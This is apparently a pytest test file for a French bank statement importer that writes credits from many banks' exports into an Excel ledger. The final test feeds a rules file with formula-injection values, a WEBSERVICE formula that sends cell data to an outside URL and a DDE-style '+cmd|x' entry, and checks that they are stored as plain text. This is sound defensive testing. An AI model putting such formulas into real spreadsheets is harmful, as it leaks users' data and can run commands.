"""xlae importer on the exports of each French bank, OFX, receipts typed by hand, proposed clients.

Each fixture in fixtures/releves/banques follows the bank's column layout (preamble,
encoding, separator, dates, amounts) with the same operations: a 1 200,00 € credit
from ACME SAS (invoice F2026-030) on 02/10/2026, a 45,90 € card debit and a 350,50 €
credit from DUPONT SEBASTIEN on 05/10/2026 — unless noted.
"""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from pathlib import Path

import pytest

from test_verifier_support import D, make_book, read_rows, receipt
from xlae.cli import main
from xlae.ledger.importing import guess_client, literal
from xlae.ledger.statement import read_statement

BANKS = Path(__file__).parent / "fixtures" / "releves" / "banques"
OCT2, OCT5 = dt.date(2026, 10, 2), dt.date(2026, 10, 5)
USUAL = [(OCT2, Decimal("1200")), (OCT5, Decimal("350.50"))]
CREDITS = {
    "qonto.csv": [(OCT2, Decimal("1200")),
                  # 31-10-2026 23:30:00 UTC is 01/11 00:30 in Paris (winter time since 25/10)
                  (dt.date(2026, 11, 1), Decimal("1500"))],   # the declined 300,00 is not a credit
    "revolut_business.csv": USUAL,                            # the REVERTED 300,00 is not a credit
    "lcl.csv": USUAL, "hello_bank.csv": USUAL, "bnp_paribas.csv": USUAL, "shine.csv": USUAL,
    "boursorama.csv": USUAL, "fortuneo.csv": USUAL, "n26.csv": USUAL, "credit_agricole.csv": USUAL,
    "societe_generale.csv": USUAL, "banque_postale.csv": USUAL, "caisse_epargne.csv": USUAL,
    "banque_populaire.csv": USUAL, "cic.csv": USUAL, "credit_mutuel.csv": USUAL, "banque_postale.ofx": USUAL,
    "banque_postale.qif": USUAL,                              # Windows-1252, « 1 200,00 », no final « ^ » needed
    "societe_generale.camt053.xml": USUAL,                    # camt.053.001.02; the USD 300,00 is set aside
    "bnp_paribas.camt053.xml": USUAL,                         # camt.053.001.08; the PDNG 700,00 is not booked
}


@pytest.mark.parametrize("name", sorted(CREDITS))
def test_each_bank_layout_reads_exactly_its_credits(name: str) -> None:
    s = read_statement(BANKS / name)
    credits = [(line.date, line.amount) for line in s.lines if line.amount > 0]
    assert credits == CREDITS[name]
    assert [line.amount for line in s.lines if line.amount < 0] == [Decimal("-45.90")] + (
        [Decimal("-120.00")] if name == "lcl.csv" else [])


@pytest.mark.parametrize("name", sorted(CREDITS))
def test_each_bank_import_then_reimport_adds_nothing(tmp_path: Path, capsys, name: str) -> None:
    book = make_book(tmp_path / "livre.xlsx")
    assert main(["importer", str(BANKS / name), "--classeur", str(book), "--appliquer"]) == 0
    out = capsys.readouterr().out
    rows = read_rows(book)
    assert [(r[0].date(), Decimal(str(r[5]))) for r in rows] == CREDITS[name]
    acme = rows[0]
    assert acme[2] == "ACME SAS" or (name == "qonto.csv" and acme[2] == "ACME SAS")
    assert "client proposé d'après le relevé" in acme[7]
    assert acme[6] == "Virement"
    assert "*" in out and "client proposé d'après le relevé" in out
    after = book.read_bytes()
    assert main(["importer", str(BANKS / name), "--classeur", str(book), "--appliquer"]) == 0
    out = capsys.readouterr().out
    assert f"0 à ajouter, {len(CREDITS[name])} déjà importée(s)" in out and "Rien à ajouter" in out
    assert book.read_bytes() == after


def test_headerless_export_says_what_was_understood(tmp_path: Path, capsys) -> None:
    book = make_book(tmp_path / "livre.xlsx")
    assert main(["importer", str(BANKS / "lcl.csv"), "--classeur", str(book)]) == 0
    out = capsys.readouterr().out
    assert "sans ligne d'en-tête" in out
    assert "Colonnes comprises d'après leur contenu : date = colonne 1 (ex. « 02/10/2026 »); " \
           "libellé = colonne 5 (ex. « VIR SEPA ACME SAS »); montant = colonne 2 (ex. « 1200,00 »)" in out
    assert "--colonnes date=1,libelle=5,montant=2" in out


def test_mapping_option_by_number_and_by_header(tmp_path: Path) -> None:
    # Débit and Crédit would be guessed in the French order; this export has them the other way round.
    path = tmp_path / "inverse.csv"
    path.write_text("02/10/2026;VIR ACME SAS;1200,00;\n03/10/2026;CB MONOP;;45,90\n", encoding="utf-8")
    guessed = read_statement(path)
    assert [line.amount for line in guessed.lines] == [Decimal("-1200.00"), Decimal("45.90")]
    s = read_statement(path, "date=1,libelle=2,credit=3,debit=4")
    assert [line.amount for line in s.lines] == [Decimal("1200.00"), Decimal("-45.90")]
    assert s.how == "--colonnes"
    named = tmp_path / "nomme.csv"
    named.write_text("Jour;Texte;Valeur\n02/10/2026;VIR ACME;100,00\n", encoding="utf-8")
    s = read_statement(named, "date=Jour,libelle=Texte,montant=Valeur")
    assert [(line.date, line.label, line.amount) for line in s.lines] == [(OCT2, "VIR ACME", Decimal("100.00"))]


@pytest.mark.parametrize("mapping, message", [
    ("date=1", "au moins la date et le montant"),
    ("jour=1,montant=2", "rôle « jour » inconnu"),
    ("date1,montant=2", "« date1 » illisible"),
    ("date=Quand,montant=Valeur", "aucune ligne de .* ne contient les en-têtes « Quand », « Valeur »"),
])
def test_bad_mapping_option(tmp_path: Path, capsys, mapping: str, message: str) -> None:
    book = make_book(tmp_path / "livre.xlsx")
    assert main(["importer", str(BANKS / "lcl.csv"), "--classeur", str(book), "--colonnes", mapping]) == 2
    err = capsys.readouterr().err
    assert __import__("re").search(message, err) and "Traceback" not in err


# --- receipts typed by hand ---------------------------------------------------------------------

def test_receipt_typed_by_hand_is_not_imported_twice(tmp_path: Path, capsys) -> None:
    # Typed by hand: 1 200 € on 02/10, F2026-030 (same date, amount, reference); 350,50 € on 01/10 (4 days before).
    hand = [receipt(D("2026-10-02"), "F2026-030", 1200, client="ACME SAS"),
            receipt(D("2026-10-01"), "F2026-031", 350.5, client="Dupont")]
    book = make_book(tmp_path / "livre.xlsx", recettes=hand)
    before = book.read_bytes()
    assert main(["importer", str(BANKS / "credit_agricole.csv"), "--classeur", str(book), "--appliquer"]) == 0
    out = capsys.readouterr().out
    assert "0 à ajouter, 0 déjà importée(s), 2 déjà saisie(s) à la main ?" in out
    assert "déjà saisie à la main ? — livre ligne 2, 02/10/2026, 1\u202f200,00 €, F2026-030 (saisie à la main)" in out
    assert "--ajouter-lignes 6 pour l'ajouter quand même" in out
    assert book.read_bytes() == before
    # the user says line 9 (350,50 €) is another payment: added; a second run adds nothing more
    assert main(["importer", str(BANKS / "credit_agricole.csv"), "--classeur", str(book), "--appliquer",
                 "--ajouter-lignes", "9"]) == 0
    capsys.readouterr()
    assert [r[5] for r in read_rows(book)] == [1200, 350.5, 350.5]
    assert main(["importer", str(BANKS / "credit_agricole.csv"), "--classeur", str(book), "--appliquer"]) == 0
    assert "0 à ajouter, 1 déjà importée(s), 1 déjà saisie(s) à la main ?" in capsys.readouterr().out


def test_hand_match_rule_window_reference_and_one_receipt_per_credit(tmp_path: Path, capsys) -> None:
    statement = tmp_path / "r.csv"
    statement.write_text("Date;Libellé;Crédit\n"
                         "10/10/2026;VIR A;100,00\n"        # hand receipt 03/10: 7 days → suspected
                         "10/10/2026;VIR B;200,00\n"        # hand receipt 02/10: 8 days → new
                         "10/10/2026;VIR C FACTURE F2026-099;999,00\n"   # same reference, other amount
                         "11/10/2026;VIR D;50,00\n11/10/2026;VIR D;50,00\n", encoding="utf-8")  # one hand 50 €
    hand = [receipt(D("2026-10-03"), "F1", 100), receipt(D("2026-10-02"), "F2", 200),
            receipt(D("2026-09-01"), "F2026-099", 1000), receipt(D("2026-10-11"), "F3", 50)]
    book = make_book(tmp_path / "livre.xlsx", recettes=hand)
    assert main(["importer", str(statement), "--classeur", str(book), "--appliquer"]) == 0
    out = capsys.readouterr().out
    assert "2 à ajouter, 0 déjà importée(s), 3 déjà saisie(s) à la main ?" in out
    assert [r[5] for r in read_rows(book)[4:]] == [200, 50]


def test_ajouter_lignes_must_name_a_credit(tmp_path: Path, capsys) -> None:
    book = make_book(tmp_path / "livre.xlsx")
    for value, message in (("7", "ligne(s) 7 : pas un crédit du relevé"), ("sept", "illisible")):
        assert main(["importer", str(BANKS / "credit_agricole.csv"), "--classeur", str(book),
                     "--ajouter-lignes", value]) == 2
        assert message in capsys.readouterr().err


# --- proposed client, literal text ----------------------------------------------------------------

@pytest.mark.parametrize("label, client", [
    ("VIR SEPA ACME SAS", "ACME SAS"),
    ("VIR SEPA RECU /DE ACME SARL /MOTIF FACTURE F2026-007", "ACME SARL"),
    ("VIR RECU DE: STUDIO NOVA REF: FA-2026-031", "STUDIO NOVA"),
    ("VIREMENT DE DUPONT SÉBASTIEN", "DUPONT SÉBASTIEN"),
    ("VIR INST RECU /DE MARTIN PAUL /MOTIF F2026-008", "MARTIN PAUL"),
    ("Payment from ACME SAS", "ACME SAS"),
    ("VIR SEPA ÉCOLE DES ARTS FACT. F2026-010", "ÉCOLE DES ARTS"),
    ("VIR SEPA RECU", ""), ("REMISE CHEQUE N° 1234567 DUPONT", ""), ("CB MONOP", ""),
])
def test_guess_client(label: str, client: str) -> None:
    assert guess_client(label) == client


def test_rule_that_names_a_client_wins_and_is_not_marked_proposed(tmp_path: Path) -> None:
    rules = tmp_path / "regles.csv"
    rules.write_text("motif;client\nACME;ACME (règle)\n", encoding="utf-8")
    book = make_book(tmp_path / "livre.xlsx")
    assert main(["importer", str(BANKS / "cic.csv"), "--classeur", str(book), "--regles", str(rules),
                 "--appliquer"]) == 0
    rows = read_rows(book)
    assert (rows[0][2], rows[0][7]) == ("ACME (règle)", "Relevé : VIR SEPA ACME SAS F2026-030")
    assert rows[1][2] == "DUPONT SEBASTIEN" and rows[1][7].endswith("client proposé d'après le relevé")


def test_formula_from_rules_is_written_as_text(tmp_path: Path, capsys) -> None:
    # issue 14 item 7: a client « =WEBSERVICE(…) » from --regles must not become a live formula
    rules = tmp_path / "regles.csv"
    rules.write_text('motif;client;nature;reference\nACME;=WEBSERVICE("http://x/?"&A1);+cmd|x;@SUM(1)\n',
                     encoding="utf-8")
    book = make_book(tmp_path / "livre.xlsx")
    assert main(["importer", str(BANKS / "cic.csv"), "--classeur", str(book), "--regles", str(rules),
                 "--appliquer"]) == 0
    import openpyxl
    ws = openpyxl.load_workbook(book)["Recettes"]
    cells = [ws.cell(2, c) for c in range(1, 10)]
    assert all(c.data_type != "f" for c in cells)
    assert (cells[1].value, cells[2].value, cells[3].value) == ("'@SUM(1)", "'=WEBSERVICE(\"http://x/?\"&A1)",
                                                               "'+cmd|x")
    assert literal("-12") == "'-12" and literal("ACME") == "ACME" and literal(None) is None
